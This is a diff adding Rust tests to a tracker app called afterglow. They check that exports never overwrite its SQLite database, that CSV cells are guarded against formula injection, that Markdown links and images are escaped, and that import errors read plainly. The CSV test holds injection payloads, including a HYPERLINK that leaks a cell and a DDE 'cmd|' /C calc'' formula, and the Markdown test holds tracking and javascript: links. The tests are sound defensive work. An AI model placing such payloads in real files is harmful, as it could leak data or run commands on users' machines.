@@ -889,3 +889,387 @@ fn with_therapy_off_no_therapy_step_or_event_appears() {
         assert!(!d.contains("hours"), "{d}");
     }
 }
+
+/// Every way of naming the database's own files: the file itself, through
+/// `..`, a symbolic link, a dangling link to its log, a hard link, and the
+/// `-wal`, `-shm` and `-journal` SQLite keeps beside it.
+#[cfg(unix)]
+fn names_of_the_database(env: &Env) -> Vec<(PathBuf, &'static str)> {
+    let dir = env.dir.path();
+    fs::create_dir_all(dir.join("sub")).unwrap();
+    let link = dir.join("report.md");
+    std::os::unix::fs::symlink(&env.db, &link).unwrap();
+    let wal_link = dir.join("log.md");
+    std::os::unix::fs::symlink("afterglow.db-wal", &wal_link).unwrap();
+    let hard = dir.join("hard.db");
+    fs::hard_link(&env.db, &hard).unwrap();
+    let with_suffix = |s: &str| PathBuf::from(format!("{}{s}", env.db.display()));
+    vec![
+        (env.db.clone(), "the database itself"),
+        (dir.join("sub/../afterglow.db"), "the database itself"),
+        (link, "the database itself"),
+        (hard, "the database itself"),
+        (wal_link, "the database's -wal file"),
+        (with_suffix("-wal"), "the database's -wal file"),
+        (with_suffix("-shm"), "the database's -shm file"),
+        (with_suffix("-journal"), "the database's -journal file"),
+    ]
+}
+
+#[cfg(unix)]
+#[test]
+fn export_and_backup_never_write_over_the_database_or_its_companions() {
+    let env = Env::new();
+    history(&env);
+    // Everything but the moment of the export itself.
+    let records = |env: &Env| {
+        let mut export = env.json(&["export"]);
+        export["exported_at"].take();
+        export
+    };
+    let before = records(&env);
+    let bytes = fs::read(&env.db).unwrap();
+    for (out, what) in names_of_the_database(&env) {
+        let out = out.to_str().unwrap();
+        for format in ["json", "md", "ics", "csv"] {
+            for force in [false, true] {
+                let mut args = vec!["export", "--format", format, "--out", out];
+                if force {
+                    args.push("--force");
+                }
+                let err = env.fails(&args);
+                assert!(
+                    err.contains(&format!("{out} is {what}"))
+                        && err.contains("nothing was changed"),
+                    "{args:?}: {err}"
+                );
+            }
+        }
+        let err = env.fails(&["backup", "--force", out]);
+        assert!(
+            err.contains(&format!("{out} is {what}")),
+            "backup {out}: {err}"
+        );
+    }
+    assert_eq!(fs::read(&env.db).unwrap(), bytes);
+    assert_eq!(records(&env), before);
+    for suffix in ["-wal", "-journal"] {
+        let beside = PathBuf::from(format!("{}{suffix}", env.db.display()));
+        assert!(!beside.exists(), "{} was written", beside.display());
+    }
+
+    // Before the first record there is no file yet, and its name is still
+    // refused: the report would sit where the database is to be made.
+    let fresh = Env::new();
+    let err = fresh.fails(&[
+        "export",
+        "--format",
+        "md",
+        "--out",
+        fresh.db.to_str().unwrap(),
+    ]);
+    assert!(err.contains("is the database itself"), "{err}");
+    assert!(!fresh.db.exists());
+}
+
+/// What a spreadsheet runs as a formula when a cell starts with it (OWASP,
+/// "CSV Injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// The reading documented in docs/data.md, written here from the docs:
+/// a cell of one or more `'` followed by a formula start lost one `'`.
+fn unguarded(cell: &str) -> String {
+    let after = cell.trim_start_matches('\'');
+    if cell.starts_with('\'') && after.starts_with(FORMULA_STARTS) {
+        cell[1..].to_string()
+    } else {
+        cell.to_string()
+    }
+}
+
+#[test]
+fn csv_cells_never_start_a_formula_and_read_back_exactly() {
+    let env = Env::new();
+    history(&env);
+    // Words that start like formulas, brought in through afterglow's own
+    // JSON, which keeps them exactly (typed words lose their outer spaces).
+    let mut export = env.json(&["export"]);
+    let texts = [
+        "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")",
+        "+SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+        "'=already quoted",
+        "''+twice",
+        "'plain quote",
+    ];
+    let journal = export["journal"].as_array_mut().unwrap();
+    let template = journal[0].clone();
+    journal.clear();
+    for (i, text) in texts.iter().enumerate() {
+        let mut e = template.clone();
+        e["id"] = serde_json::json!(100 + i);
+        e["body"] = serde_json::json!(text);
+        journal.push(e);
+    }
+    export["sessions"][1]["note"] = serde_json::json!("=1+1");
+    export["therapy"][0]["note"] = serde_json::json!("@A1");
+    export["intentions"][0]["text"] = serde_json::json!("-1");
+    export["habits"][0]["name"] = serde_json::json!("=1+1");
+    let file = env.dir.path().join("formulas.json");
+    fs::write(&file, export.to_string()).unwrap();
+    let other = Env::new();
+    other.ok(&["import", "--from", "afterglow", file.to_str().unwrap()]);
+    let stored = other.json(&["export"]);
+
+    let dir = other.dir.path().join("csv");
+    other.ok(&["export", "--format", "csv", "--out", dir.to_str().unwrap()]);
+    for name in CSV_FILES {
+        let path = dir.join(name);
+        let mut r = ::csv::Reader::from_path(&path).unwrap();
+        for record in r.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(FORMULA_STARTS),
+                    "{name}: a cell starts a formula: {cell:?}"
+                );
+            }
+        }
+    }
+    // The prefixed cells are quoted, as OWASP advises.
+    let raw = fs::read_to_string(dir.join("journal.csv")).unwrap();
+    assert!(raw.contains(",\"'=HYPERLINK("), "{raw}");
+    assert!(raw.contains(",\"'-2+3\"\r\n"), "{raw}");
+    assert!(raw.contains(",\"''=already quoted\"\r\n"), "{raw}");
+    assert!(raw.contains(",'plain quote\r\n"), "{raw}");
+
+    // Undoing exactly the added quote gives back every stored word.
+    let bodies: BTreeSet<String> = read_csv(&dir.join("journal.csv"))
+        .iter()
+        .map(|row| unguarded(&row["body"]))
+        .collect();
+    let want: BTreeSet<String> = stored["journal"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["body"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(bodies, want);
+    assert_eq!(want, texts.iter().map(|t| t.to_string()).collect());
+    let habits = read_csv(&dir.join("habits.csv"));
+    assert!(habits.iter().any(|h| h["name"] == "'=1+1"), "{habits:?}");
+    let ticks = read_csv(&dir.join("habit_ticks.csv"));
+    assert!(ticks.iter().all(|t| !t["habit"].starts_with('=')));
+    assert_eq!(
+        unguarded(&read_csv(&dir.join("sessions.csv"))[1]["note"]),
+        "=1+1"
+    );
+    assert_eq!(
+        unguarded(&read_csv(&dir.join("therapy.csv"))[0]["note"]),
+        "@A1"
+    );
+    assert_eq!(
+        unguarded(&read_csv(&dir.join("intentions.csv"))[0]["text"]),
+        "-1"
+    );
+}
+
+#[test]
+fn links_and_images_in_notes_show_as_text_in_the_report() {
+    let env = Env::new();
+    let image = "![](http://tracker.example/pixel.png?who=me)";
+    let link = "[click me](javascript:alert(1))";
+    let reference = "[see][r] and [r]\n[r]: http://tracker.example/ref.png";
+    let auto = "<http://auto.example/> <img src=http://tracker.example/i.png>";
+    env.ok(&["session", "log", "--at", &rfc(days_ago(2)), "--note", image]);
+    env.ok(&["therapy", "log", "--at", &rfc(days_ago(1)), "--note", link]);
+    env.ok(&[
+        "journal",
+        "add",
+        &format!("{image}\n{link}\n{reference}\n{auto}"),
+    ]);
+    env.ok(&["intention", "set", link]);
+    env.ok(&["habit", "add", "![x](http://t.example/h.png)"]);
+    env.ok(&["habit", "tick", "![x](http://t.example/h.png)"]);
+    let md = env.ok(&["export", "--format", "md"]);
+    // No inline link or image, no link definition, no autolink, no tag:
+    // a viewer has nothing to fetch or to follow.
+    for live in ["](", "]:"] {
+        assert!(!md.contains(live), "{live:?} is live in:\n{md}");
+    }
+    for tag in ["<http", "<img"] {
+        for (at, _) in md.match_indices(tag) {
+            assert!(md[..at].ends_with('\\'), "{tag:?} is live in:\n{md}");
+        }
+    }
+    // Every word is still there, escaped so that it shows as typed.
+    for shown in [
+        "![]\\(http://tracker.example/pixel.png?who=me)",
+        "[click me]\\(javascript:alert(1))",
+        "[r]\\: http://tracker.example/ref.png",
+        "\\<http://auto.example/>",
+        "| ![x]\\(http://t.example/h.png) |",
+    ] {
+        assert!(md.contains(shown), "{shown:?} is missing from:\n{md}");
+    }
+}
+
+/// serde's and chrono's own words ("invalid length 0, expected struct …",
+/// "input is out of range") mean nothing to a person; a file that is not
+/// an afterglow export, or has a value it cannot read, is named plainly.
+#[test]
+fn a_file_that_is_not_an_export_is_refused_in_plain_words() {
+    let env = Env::new();
+    history(&env);
+    let good = env.ok(&["export"]);
+    let other = Env::new();
+    let jargon = [
+        "invalid length",
+        "expected struct",
+        "input is out of range",
+        "invalid type",
+        "missing field",
+        "`",
+    ];
+    let dir = env.dir.path();
+    let mut cases: Vec<(String, String)> = [
+        ("[]", "this is not an afterglow export: it holds a list at the top, where an export holds an object ({ … })"),
+        ("\"notes\"", "this is not an afterglow export: it holds a text at the top, where an export holds an object ({ … })"),
+        ("42", "this is not an afterglow export: it holds a number at the top"),
+        ("null", "this is not an afterglow export: it holds null at the top"),
+    ]
+    .into_iter()
+    .map(|(text, words)| (text.to_string(), words.to_string()))
+    .collect();
+    let broken = |from: &str, to: &str| {
+        assert!(good.contains(from), "{from}");
+        good.replacen(from, to, 1)
+    };
+    let exported_at = good
+        .lines()
+        .find(|l| l.contains("\"exported_at\""))
+        .unwrap()
+        .to_string();
+    let line_of =
+        |text: &str, needle: &str| 1 + text[..text.find(needle).unwrap()].matches('\n').count();
+    let bad_time = broken(&exported_at, "  \"exported_at\": \"2026-13-01T00:00:00Z\",");
+    let line = line_of(&bad_time, "2026-13-01");
+    cases.push((
+        bad_time,
+        format!("line {line}: this export has a value afterglow cannot read: \"exported_at\" is \"2026-13-01T00:00:00Z\", which is not a time afterglow can read"),
+    ));
+    let bad_mood = broken("\"mood\": 7", "\"mood\": \"high\"");
+    let line = line_of(&bad_mood, "\"high\"");
+    cases.push((
+        bad_mood,
+        format!("line {line}: this export has a value afterglow cannot read: \"mood\" is the text \"high\", where a whole number belongs"),
+    ));
+    let no_id = broken("\"id\": 1,", "");
+    cases.push((no_id, "a record has no \"id\"".to_string()));
+    for (i, (text, words)) in cases.iter().enumerate() {
+        let file = dir.join(format!("not-an-export-{i}.json"));
+        fs::write(&file, text).unwrap();
+        let err = other.fails(&["import", "--from", "afterglow", file.to_str().unwrap()]);
+        assert!(err.contains(words.as_str()), "{text}\n---\n{err}");
+        for word in jargon {
+            assert!(!err.contains(word), "{word:?} in: {err}");
+        }
+    }
+}
+
+/// Rows another program wrote as afterglow never would: a journal body
+/// that is not UTF-8, and a session of a kind afterglow does not know.
+fn with_bad_rows(env: &Env) {
+    history(env);
+    env.ok(&["journal", "add", "kept words"]);
+    env.ok(&["journal", "add", "soon to be bytes"]);
+    let conn = rusqlite::Connection::open(&env.db).unwrap();
+    conn.execute_batch(
+        "PRAGMA ignore_check_constraints = ON;
+         UPDATE journal SET body = CAST(X'E29CFF' AS TEXT) WHERE id = 3;
+         UPDATE sessions SET kind = 'teleport' WHERE id = 2;",
+    )
+    .unwrap();
+}
+
+const JARGON: [&str; 4] = [
+    "Conversion error",
+    "index",
+    "Invalid column type",
+    "database error",
+];
+
+#[test]
+fn a_row_that_cannot_be_read_is_named_and_left_out_only_when_asked() {
+    let env = Env::new();
+    with_bad_rows(&env);
+
+    let err = env.fails(&["journal", "list"]);
+    let journal = "journal entry 3 cannot be read: its body is not readable text (it is not UTF-8)";
+    assert!(err.contains(journal), "{err}");
+    let session = "session 2 cannot be read: unknown session kind \"teleport\"";
+    for format in ["json", "md", "ics", "csv"] {
+        let out = env.dir.path().join(format!("all.{format}"));
+        let err = env.fails(&["export", "--format", format, "--out", out.to_str().unwrap()]);
+        assert!(err.contains(session) && err.contains("--skip-bad"), "{err}");
+        assert!(err.contains("nothing was exported"), "{err}");
+        assert!(!out.exists());
+        for word in JARGON {
+            assert!(!err.contains(word), "{word:?} in {err}");
+        }
+    }
+
+    let out = env
+        .command()
+        .args(["export", "--skip-bad"])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let told = String::from_utf8(out.stderr).unwrap();
+    for line in [
+        "afterglow: left out session 2, which cannot be read: unknown session kind \"teleport\"",
+        "afterglow: left out journal entry 3, which cannot be read: its body is not readable text (it is not UTF-8)\n",
+        "afterglow: kept journal entry 1 without its link to session 2, which was left out\n",
+        "afterglow: kept intention 1 without its link to session 2, which was left out\n",
+    ] {
+        assert!(told.contains(line), "{line}\n---\n{told}");
+    }
+    let rest: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let bodies: Vec<&str> = rest["journal"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["body"].as_str().unwrap())
+        .collect();
+    assert_eq!(bodies.len(), 2, "{bodies:?}");
+    assert!(bodies.contains(&"kept words") && bodies.contains(&AWKWARD));
+    let ids: Vec<i64> = rest["sessions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["id"].as_i64().unwrap())
+        .collect();
+    assert_eq!(ids, [1, 3]);
+    // What was written still imports whole.
+    let file = env.dir.path().join("rest.json");
+    fs::write(&file, &out.stdout).unwrap();
+    let other = Env::new();
+    other.ok(&["import", "--from", "afterglow", file.to_str().unwrap()]);
+    assert_eq!(
+        other.json(&["export"])["journal"].as_array().unwrap().len(),
+        2
+    );
+
+    let report = env.dir.path().join("report.md");
+    let out = env
+        .command()
+        .args(["export", "--skip-bad", "--format", "md", "--out"])
+        .arg(&report)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    assert!(String::from_utf8_lossy(&out.stderr).contains("left out journal entry 3"));
+    assert!(fs::read_to_string(&report).unwrap().contains("kept words"));
+}
